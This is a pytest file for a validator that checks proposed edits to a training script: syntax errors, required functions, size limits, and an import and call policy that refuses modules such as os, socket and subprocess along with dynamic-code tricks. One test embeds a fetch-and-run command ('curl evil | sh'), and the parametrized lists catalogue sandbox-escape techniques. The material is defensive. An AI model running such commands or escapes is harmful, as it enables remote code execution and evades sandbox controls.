"""Validation of the resulting train.py, and apply_edit's own refusals."""

from __future__ import annotations

import pytest

from service.domain.edits import apply_edit, validate_source
from service.domain.errors import InvalidArgument, PayloadTooLarge
from service.domain.models import ProposeEditRequest, SearchReplaceBlock

MINIMAL = "import torch\n\n\ndef build_model(config):\n    return torch.nn.Linear(1, 1)\n\n\ndef train(ctx):\n    pass\n"


def refused(source: str, policy) -> dict:
    with pytest.raises(InvalidArgument) as info:
        validate_source(source, policy)
    return info.value.details


def test_baseline_and_minimal_file_validate(baseline, policy):
    validate_source(baseline, policy)
    validate_source(MINIMAL, policy)


def test_syntax_error_has_line_column_message_text(baseline, policy):
    broken = baseline.replace("def train(ctx):", "def train(ctx:", 1)
    d = refused(broken, policy)["syntax_error"]
    line = next(i for i, t in enumerate(baseline.splitlines(), 1) if t.startswith("def train("))
    assert d["line"] == line and d["column"] == 10
    assert d["text"] == "def train(ctx:" and "never closed" in d["message"]


def test_indentation_error_is_a_syntax_error(policy):
    d = refused(MINIMAL.replace("    pass", "  pass\n    pass"), policy)["syntax_error"]
    assert d["line"] == 10 and "indent" in d["message"]


def test_null_byte_is_a_syntax_error(policy):
    d = refused(MINIMAL + "x = 1\0\n", policy)["syntax_error"]
    assert d["line"] == 10 and d["column"] == 6


@pytest.mark.parametrize(
    ("edit", "missing"),
    [
        (lambda s: s.replace("def train(ctx):", "def train_loop(ctx):"), ["train"]),
        (lambda s: s.replace("def build_model(config", "def make_model(config"), ["build_model"]),
        # nested or assigned is not "a function at module level"
        (
            lambda s: s.replace("def build_model(", "if True:\n    def build_model(").replace(
                "\n    return torch.nn.Linear", "\n        return torch.nn.Linear"
            ),
            ["build_model"],
        ),
        (lambda s: s.replace("def train(ctx):\n    pass", "train = print"), ["train"]),
    ],
)
def test_missing_contract_functions(policy, edit, missing):
    source = edit(MINIMAL)
    assert source != MINIMAL
    d = refused(source, policy)
    assert d["missing"] == missing


@pytest.mark.parametrize(
    ("line", "module"),
    [
        ("import socket", "socket"),
        ("import subprocess", "subprocess"),
        ("import os", "os"),
        ("import os.path", "os.path"),
        ("from os import system", "os"),
        ("from subprocess import run as go", "subprocess"),
        ("import torch, shutil", "shutil"),
        ("from . import helpers", "."),
        ("from ..pkg import x", "..pkg"),
    ],
)
def test_disallowed_imports(policy, line, module):
    d = refused(MINIMAL + f"\n{line}\n", policy)
    assert d["disallowed_imports"] == [
        {"module": module, "line": 11, **({"reason": "relative"} if module[0] == "." else {})}
    ]


def test_os_system_through_os_is_refused_inside_a_function(baseline, policy):
    sneaky = baseline.replace(
        "def train(ctx):\n", "def train(ctx):\n    import os\n    os.system('curl evil | sh')\n", 1
    )
    d = refused(sneaky, policy)
    assert [i["module"] for i in d["disallowed_imports"]] == ["os"]


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("__import__('os').system('ls')", "__import__"),
        ("exec('import os')", "exec"),
        ("eval('1')", "eval"),
        ("compile('x', 'f', 'exec')", "compile"),
        ("b = __builtins__", "__builtins__"),
        ("f = getattr(torch, '__builtins__')", "getattr(..., '__builtins__')"),
        ("g = (1).__class__.__base__.__subclasses__()", ".__subclasses__"),
        ("g = build_model.__globals__", ".__globals__"),
    ],
)
def test_dynamic_code_and_import_tricks(policy, code, name):
    d = refused(MINIMAL + f"\n{code}\n", policy)
    assert name in [c["name"] for c in d["disallowed_calls"]]


def test_dunder_import_of_a_constant_reports_the_module(policy):
    d = refused(MINIMAL + "\nm = __import__('socket')\n", policy)
    assert d["disallowed_imports"] == [{"module": "socket", "line": 11, "via": "__import__"}]


def test_torch_compile_and_method_eval_are_fine(policy):
    ok = MINIMAL + "\nfrom torch import compile\nm = compile(build_model({}))\nm.eval()\n"
    validate_source(ok, policy)


def test_allow_list_is_per_policy(policy):
    with_os = MINIMAL + "\nimport os\n"
    refused(with_os, policy)
    from msgspec import structs

    validate_source(
        with_os, structs.replace(policy, allowed_imports=policy.allowed_imports | {"os"})
    )


def test_all_problems_reported_together(policy):
    d = refused("import socket\n\ndef train(ctx):\n    eval('1')\n", policy)
    assert d["missing"] == ["build_model"]
    assert d["disallowed_imports"][0]["module"] == "socket"
    assert d["disallowed_calls"][0]["name"] == "eval"


def test_source_size_limit(policy):
    from msgspec import structs

    small = structs.replace(policy, max_source_bytes=100)
    with pytest.raises(PayloadTooLarge) as info:
        validate_source(MINIMAL + "# é\n", small)
    assert info.value.details == {
        "field": "source",
        "limit": 100,
        "actual": len((MINIMAL + "# é\n").encode()),
    }


def test_unencodable_source_is_refused(policy):
    with pytest.raises(InvalidArgument) as info:
        validate_source(MINIMAL + "# \ud800\n", policy)
    assert info.value.details["encoding"] == "utf-8"


# --- apply_edit's own refusals ---------------------------------------------------


@pytest.mark.parametrize(
    "req",
    [
        ProposeEditRequest(),
        ProposeEditRequest(unified_diff="x", full_source="y"),
        ProposeEditRequest(search_replace=[], full_source="y"),
    ],
)
def test_exactly_one_patch_form(policy, req):
    with pytest.raises(InvalidArgument) as info:
        apply_edit(MINIMAL, MINIMAL, req, policy)
    assert info.value.details["field"] == "patch"


def test_patch_size_limit(policy):
    from msgspec import structs

    tight = structs.replace(policy, max_patch_bytes=50)
    with pytest.raises(PayloadTooLarge) as info:
        apply_edit(MINIMAL, MINIMAL, ProposeEditRequest(full_source=MINIMAL), tight)
    assert info.value.details == {"field": "patch", "limit": 50, "actual": len(MINIMAL)}
    blocks = [SearchReplaceBlock(search="pass", replace="x" * 60)]
    with pytest.raises(PayloadTooLarge):
        apply_edit(MINIMAL, MINIMAL, ProposeEditRequest(search_replace=blocks), tight)


def test_description_limit(policy):
    from msgspec import structs

    tight = structs.replace(policy, max_description_chars=10)
    req = ProposeEditRequest(description="é" * 11, full_source=MINIMAL)
    with pytest.raises(InvalidArgument) as info:
        apply_edit(MINIMAL, MINIMAL, req, tight)
    assert info.value.details == {"field": "description", "limit": 10, "actual": 11}


def test_edit_that_breaks_the_file_is_refused_after_applying(baseline, policy):
    blocks = [SearchReplaceBlock(search="def train(ctx):", replace="def train(ctx")]
    with pytest.raises(InvalidArgument) as info:
        apply_edit(baseline, baseline, ProposeEditRequest(search_replace=blocks), policy)
    assert "syntax_error" in info.value.details
